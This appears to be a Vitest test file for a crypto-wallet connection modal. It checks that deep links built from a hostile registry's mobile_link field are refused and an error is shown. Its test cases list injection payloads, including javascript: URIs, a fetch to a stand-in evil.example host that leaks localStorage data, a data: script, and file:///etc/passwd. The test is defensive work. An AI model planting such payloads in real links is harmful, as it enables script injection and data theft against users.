// @vitest-environment happy-dom
import { act, fireEvent, waitFor } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import type { WalletListing } from '../../../ports/index.js';
import { MemoryWalletConnector } from '../../../testkits/MemoryWalletConnector.js';
import { sampleRegistry } from '../../../testkits/views/fixtures.js';
import { modal, recordingServices, viewHarness } from '../../../testkits/views/viewHarness.js';

const URI = 'wc:7f6e504bfad60b485450578e05678ed3@2?relay-protocol=irn&symKey=587d5484';
const WALLET = 'com.trustwallet.app';

const harness = viewHarness();

/** A phone, the data service's registry answering `mobile_link` for Trust Wallet, its pairing shown. */
const openOnPhone = async (mobileLink: string) => {
  const registry: WalletListing[] = sampleRegistry().map((listing) =>
    listing.id === WALLET ? { ...listing, mobile_link: mobileLink } : listing,
  );
  const current = harness.fixture({ mobile: true, registry });
  const walletConnect = current.discovery.list().find((item) => item.info.id === 'walletConnect');
  if (!(walletConnect instanceof MemoryWalletConnector)) throw new Error('no WalletConnect connector');
  walletConnect.connectBehaviour = 'hang';
  walletConnect.displayUri = URI;
  const { services, opened } = recordingServices(current.clock);
  harness.render(current, { services });
  await act(async () => {
    await current.clock.runAllAsync();
    await current.latch.modal.open({ view: 'ConnectingWalletConnect', data: { walletId: WALLET } });
    await current.wallets.loadNextPage();
  });
  return { current, opened };
};

describe('ConnectingWalletConnect under a hostile registry (issue 12)', () => {
  it.each([
    'javascript://%0Aalert(document.domain)//',
    'JaVaScRiPt://%0Afetch(`//evil.example/`+localStorage.length)//',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
  ])(
    'never opens the deep link built from mobile_link %j: says why, remembers no link',
    async (mobileLink) => {
      const { current, opened } = await openOnPhone(mobileLink);
      fireEvent.click(await modal().findByRole('button', { name: 'Open Trust Wallet' }, { timeout: 10_000 }));
      await waitFor(() =>
        expect(modal().getByRole('alert').textContent).toBe(
          'This link cannot be opened: it is not a safe web or wallet address',
        ),
      );
      expect(opened).toEqual([]);
      expect(current.latch.connect.pairing).toHaveProperty('linking', undefined);
    },
  );

  it("still opens a wallet's own scheme", async () => {
    const { opened } = await openOnPhone('trust://');
    fireEvent.click(await modal().findByRole('button', { name: 'Open Trust Wallet' }, { timeout: 10_000 }));
    expect(opened).toEqual([`trust://wc?uri=${encodeURIComponent(URI)}`]);
  });
});
